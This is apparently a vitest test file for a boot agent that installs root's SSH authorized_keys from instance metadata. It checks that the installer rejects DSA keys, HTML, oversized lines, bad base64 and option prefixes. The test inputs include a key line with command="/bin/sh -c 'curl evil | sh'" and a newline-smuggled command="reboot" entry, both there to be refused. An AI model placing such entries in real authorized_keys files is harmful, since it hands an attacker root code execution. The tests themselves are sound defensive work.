/** Root's authorized_keys from public-keys/: every key type but DSA, and nothing hostile. */
import { beforeAll, describe, expect } from 'vitest';
import type { InstanceConfig } from '../../../tools/boot-check/metadata/instance.js';
import type { AgentWorld } from '../../helpers/agent-world.js';
import { it, worldForTest } from '../../helpers/fixtures.js';
import { keyLine, makeTestKeys, type TestKeys } from '../../helpers/ssh-keys.js';

let keys: TestKeys;
beforeAll(async () => {
  keys = await makeTestKeys();
});

function withKeys(keyBodies: string[], extra: Partial<InstanceConfig> = {}): InstanceConfig {
  return {
    instance_id: 'i-0123456789abcdef0',
    public_keys: keyBodies.map((key, index) => ({ name: `key${index}`, key })),
    ...extra,
  };
}

/** Boots a world with these keys; returns root's authorized_keys and the world. */
async function install(
  keyBodies: string[],
  extra: Partial<InstanceConfig> = {},
): Promise<{ text: string; world: AgentWorld }> {
  const world = await worldForTest({ instance: withKeys(keyBodies, extra) });
  expect((await world.run()).exitCode).toBe(0);
  return { text: await world.read('root/.ssh/authorized_keys').catch(() => ''), world };
}

async function installed(keyBodies: string[], extra: Partial<InstanceConfig> = {}): Promise<string> {
  return (await install(keyBodies, extra)).text;
}

describe('ssh keys', () => {
  it('installs every key of the index: ed25519, ecdsa, rsa and sk- types', async () => {
    const { text, world } = await install([keys.ed25519, keys.ecdsa, keys.rsa, keys.sk]);
    expect(text).toBe(`${keys.ed25519}\n${keys.ecdsa}\n${keys.rsa}\n${keys.sk}\n`);
    expect(await world.step('ssh-keys')).toMatchObject({
      result: 'ok',
      detail: '4 valid of 4, 4 added, 0 lines rejected',
    });
  });

  it('refuses a DSA key and keeps the others', async () => {
    const { text, world } = await install([keys.dss, keys.ed25519]);
    expect(text).toBe(`${keys.ed25519}\n`);
    expect((await world.step('ssh-keys'))?.detail).toContain('1 lines rejected');
    expect(await world.read('var/log/emi-agent.log')).toContain('DSA key');
  });

  it('refuses an HTML page served as a key', async () => {
    const html = '<html><head><title>500</title></head><body>ssh-rsa is down</body></html>';
    expect(await installed([html, keys.ecdsa])).toBe(`${keys.ecdsa}\n`);
  });

  it('refuses option prefixes such as command= and from=', async () => {
    const text = await installed([
      `command="/bin/sh -c 'curl evil | sh'" ${keys.rsa}`,
      `no-pty,from="*" ${keys.ed25519}`,
      keys.ecdsa,
    ]);
    expect(text).toBe(`${keys.ecdsa}\n`);
    expect(text).not.toContain('command=');
  });

  it('takes each line of a key body on its own: a second line smuggled in with a newline is checked too', async () => {
    const text = await installed([`${keys.ed25519}\ncommand="reboot" ${keys.rsa}\n${keys.ecdsa}`]);
    expect(text).toBe(`${keys.ed25519}\n${keys.ecdsa}\n`);
    // A key split by a newline inside its base64 does not decode.
    const [type, blob] = keys.rsa.split(' ') as [string, string];
    expect(await installed([`${type} ${blob.slice(0, 40)}\n${blob.slice(40)}`])).toBe('');
  });

  it('refuses a 1 MiB line without reading past the cap, and keeps the other keys', async () => {
    const huge = `ssh-rsa ${'A'.repeat(1024 * 1024)} huge`;
    const { text, world } = await install([huge, keys.ed25519]);
    expect(text).toBe(`${keys.ed25519}\n`);
    expect(await world.step('ssh-keys')).toMatchObject({ result: 'failed' });
    expect((await world.step('ssh-keys'))?.detail).toContain('1 keys could not be fetched');
  });

  it('accepts a key with CRLF line ends, written with LF', async () => {
    expect(await installed([`${keys.ed25519}\r\n`])).toBe(`${keys.ed25519}\n`);
  });

  it('refuses control characters, bad base64 and a blob of another type', async () => {
    const [, rsaBlob] = keys.rsa.split(' ') as [string, string];
    const text = await installed([
      `${keys.ed25519.slice(0, 30)}\u001b[2J${keys.ed25519.slice(30)}`,
      'ssh-ed25519 not*base64 x',
      `ssh-ed25519 ${rsaBlob} mislabelled`,
      keyLine('ssh-ed25519', [Buffer.alloc(32, 1)], 'fine'),
    ]);
    expect(text).toBe(`${keyLine('ssh-ed25519', [Buffer.alloc(32, 1)], 'fine')}\n`);
  });

  it('leaves authorized_keys alone when the index cannot be fetched, and retries at the next boot', async ({
    makeWorld,
  }) => {
    const world = await makeWorld({
      instance: withKeys([keys.ed25519], {
        faults: [{ path: '/latest/meta-data/public-keys/', status: 500 }],
      }),
      config: { RETRIES: 1 },
    });
    await world.write('root/.ssh/authorized_keys', `${keys.ecdsa}\n`, 0o600);
    await world.run();
    expect(await world.step('ssh-keys')).toMatchObject({ result: 'failed' });
    expect(await world.read('root/.ssh/authorized_keys')).toBe(`${keys.ecdsa}\n`);
    await world.reboot();
    world.launch(withKeys([keys.ed25519]));
    await world.run();
    expect(await world.read('root/.ssh/authorized_keys')).toBe(`${keys.ecdsa}\n${keys.ed25519}\n`);
  });

  it("does not duplicate a key already present, even behind the user's options", async ({ makeWorld }) => {
    const world = await makeWorld({ instance: withKeys([keys.ed25519, keys.ed25519]) });
    await world.write('root/.ssh/authorized_keys', `# mine\nno-agent-forwarding ${keys.ed25519}\n`, 0o644);
    await world.run();
    expect(await world.read('root/.ssh/authorized_keys')).toBe(
      `# mine\nno-agent-forwarding ${keys.ed25519}\n`,
    );
    expect(await world.mode('root/.ssh/authorized_keys')).toBe(0o600);
  });

  it('runs restorecon on ~/.ssh where SELinux is on, and not elsewhere', async ({ makeWorld }) => {
    const world = await makeWorld({ instance: withKeys([keys.ed25519]) });
    await world.run();
    expect(await world.commandsOf('restorecon')).toEqual([]);
    await world.write('sys/fs/selinux/enforce', '1\n');
    await world.reboot();
    await world.run();
    expect(await world.commandsOf('restorecon')).toEqual([['restorecon', '-R', world.path('root/.ssh')]]);
  });
});
